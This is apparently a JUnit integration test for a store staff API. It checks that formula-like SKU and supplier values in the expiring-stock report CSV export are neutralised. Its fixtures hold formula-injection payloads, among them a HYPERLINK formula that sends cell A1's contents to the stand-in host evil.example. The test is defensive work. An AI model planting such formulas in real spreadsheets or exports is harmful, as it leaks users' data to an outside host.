package dev.storeops.staffapi;

import static dev.storeops.platform.dynamo.Items.s;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPResponse;
import com.amazonaws.services.lambda.runtime.tests.EventLoader;
import dev.storeops.platform.dynamo.Items;
import dev.storeops.reporting.dynamo.DynamoReportStore;
import dev.storeops.reporting.dynamo.ReportsStreamService;
import dev.storeops.stack.AwsStack;
import dev.storeops.stack.junit.WithAwsStack;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * A SKU or supplier id is text a supplier chose (a supplier file may carry {@code =HYPERLINK(...)} as
 * a SKU). In an exported report CSV such a cell opens as text, never as a formula.
 */
@WithAwsStack
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ReportCsvInjectionTest {
  private AwsStack stack;
  private StaffApiCalls api;

  @BeforeAll
  void setUp(AwsStack stack) {
    this.stack = stack;
    this.api = StaffApiCalls.on(stack);
  }

  /** A stock item as stock-import writes it, indexed for the expiring report the way the table stream does. */
  private void expiringStock(String sku, String supplierId) {
    Map<String, AttributeValue> stock = new HashMap<>(Map.of("pk", s("SKU#" + sku), "sk", s("STOCK#msk-1"),
        "type", s("Stock"), "sku", s(sku), "warehouse", s("msk-1"), "supplierId", s(supplierId),
        "expiresAt", s(LocalDate.now(ZoneId.of("Europe/Moscow")).plusDays(3).toString())));
    stock.put("onHand", Items.n(4));
    stock.put("reserved", Items.n(0));
    stock.put("available", Items.n(4));
    String table = stack.tableName("StoreTable");
    stack.dynamoDb().putItem(p -> p.tableName(table).item(stock));
    new ReportsStreamService(new DynamoReportStore(stack.dynamoDb(), table), ZoneId.of("Europe/Moscow"))
        .apply(Map.of(), stock);
  }

  @Test
  void formulaLikeCellsOfTheExpiringReportCsvAreNeutralised() {
    String tag = UUID.randomUUID().toString().substring(0, 8);
    expiringStock("=HYPERLINK(\"http://evil.example/?\"&A1,\"" + tag + "\")", "-sup-" + tag);
    expiringStock("@SUM(A1)-" + tag, "+sup-" + tag);
    expiringStock("\t=1+1-" + tag, "\r=2-" + tag);

    APIGatewayV2HTTPEvent event = EventLoader.loadApiGatewayHttpEvent("events/staff-api/get-expiring-report.json");
    event.setQueryStringParameters(Map.of("days", "7"));
    Map<String, String> headers = new HashMap<>(event.getHeaders());
    headers.put("accept", "text/csv");
    event.setHeaders(headers);
    APIGatewayV2HTTPResponse csv = api.call(event);
    assertEquals(200, csv.getStatusCode(), csv.getBody());

    // records end with CRLF; a lone CR inside a quoted field is data
    List<String> mine = java.util.Arrays.stream(csv.getBody().split("\r\n")).filter(l -> l.contains(tag)).toList();
    assertEquals(3, mine.size(), csv.getBody());
    assertTrue(mine.stream().anyMatch(l -> l.startsWith("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"" + tag
        + "\"\")\",msk-1,") && l.endsWith(",'-sup-" + tag)), mine.toString());
    assertTrue(mine.stream().anyMatch(l -> l.startsWith("'@SUM(A1)-" + tag + ",") && l.endsWith(",'+sup-" + tag)),
        mine.toString());
    // TAB and CR start a formula too; a field holding a CR is also quoted
    assertTrue(mine.stream().anyMatch(l -> l.startsWith("'\t=1+1-" + tag + ",") && l.endsWith(",\"'\r=2-" + tag + "\"")),
        mine.toString());
  }
}
